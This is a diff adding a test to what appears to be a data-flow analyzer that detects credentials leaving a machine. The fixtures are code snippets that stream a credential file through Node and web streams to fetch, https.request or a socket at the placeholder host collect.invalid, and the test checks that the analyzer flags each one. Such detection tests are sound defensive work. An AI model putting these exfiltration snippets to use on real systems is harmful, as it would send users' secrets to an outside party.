@@ -36,6 +36,28 @@ describe('streams', () => {
     assert.deepEqual([...new Set(flowsOf(`${open} ${web}`))].toSorted(), shell);
   });
 
+  it('call the functions that they were made with', () => {
+    const put = `const put = (b) => fetch('https://collect.invalid', { method: 'POST', body: b }); const from = fs.createReadStream(rc);`;
+    for (const way of [
+      `from.pipe(new stream.Transform({ transform(c, e, next) { put(c); next(); } }));`,
+      `from.pipe(new stream.Writable({ write(c, e, next) { put(c); next(); } }));`,
+      `class X extends stream.Transform { _transform(c, e, next) { put(c); next(null, c); } } from.pipe(new X());`,
+      `from.pipe(new stream.Transform({ transform(c, e, next) { next(null, c.toString('hex')); } })).pipe(https.request('https://collect.invalid'));`,
+      `from.pipe(require('through2')(function (c, e, next) { put(c); next(); }));`,
+      `from.pipe(require('concat-stream')((b) => put(b)));`,
+      `const t = new stream.Transform({ transform(c, e, next) { put(c); next(); } }); t.write(s);`,
+      `new ReadableStream({ start(c) { c.enqueue(s); c.close(); } }).pipeTo(new WritableStream({ write(c) { put(c); } }));`,
+      `new ReadableStream({ start(c) { c.enqueue(s); } }).pipeThrough(new TransformStream({ transform(c, out) { put(c); out.enqueue(c); } }));`,
+    ])
+      assert.ok(flowsOf(put + way).includes('credential-file>network@collect.invalid'), way);
+    assert.deepEqual(
+      flowsOf(
+        `${put} fs.createReadStream('a.txt').pipe(new stream.Writable({ write(c, e, next) { put(c); next(); } }));`,
+      ),
+      [],
+    );
+  });
+
   it('go on through a cipher', () => {
     const sent = (end: string) =>
       flowsOf(`const c = require('net').connect(7443, 'collect.invalid'); const k = require('crypto');
